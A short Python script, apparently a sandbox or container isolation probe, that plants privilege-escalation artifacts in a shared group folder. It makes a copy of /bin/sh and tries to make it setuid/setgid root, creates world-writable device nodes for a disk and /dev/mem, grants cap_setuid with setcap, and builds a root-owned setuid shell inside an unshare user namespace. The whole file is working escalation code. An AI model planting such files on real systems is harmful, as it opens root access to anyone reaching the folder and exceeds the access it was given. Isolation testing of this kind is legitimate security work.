"""Leave files with power in the group's folder: setuid programs, devices, files of root's, capabilities."""

import json
import os
import shutil
import stat
import subprocess

made = []
shutil.copy("/bin/sh", "shell")
for mode in (0o6755, 0o4755, 0o2755):
    try:
        os.chmod("shell", mode)
    except OSError:
        pass
for name, kind, device in (
    ("null", stat.S_IFCHR, os.makedev(1, 3)),
    ("disk", stat.S_IFBLK, os.makedev(254, 0)),
    ("mem", stat.S_IFCHR, os.makedev(1, 1)),
):
    try:
        os.mknod(name, kind | 0o666, device)
        made.append(name)
    except OSError:
        pass
try:
    os.chown("shell", 0, 0)  # as a rootless engine's uid 0 it may: whose it then is, the host has to see
except OSError:
    pass
# In a user namespace of its own one is root, of one's own files alone.
as_root = "cp /bin/sh rooted; chown 0:0 rooted; chmod 6755 rooted; mknod rooted-null c 1 3; setcap cap_setuid+ep rooted"
for command in (["setcap", "cap_setuid+ep", "shell"], ["unshare", "-Ur", "sh", "-c", as_root]):
    try:
        subprocess.run(command, capture_output=True)
    except OSError:
        pass
print(json.dumps(made))
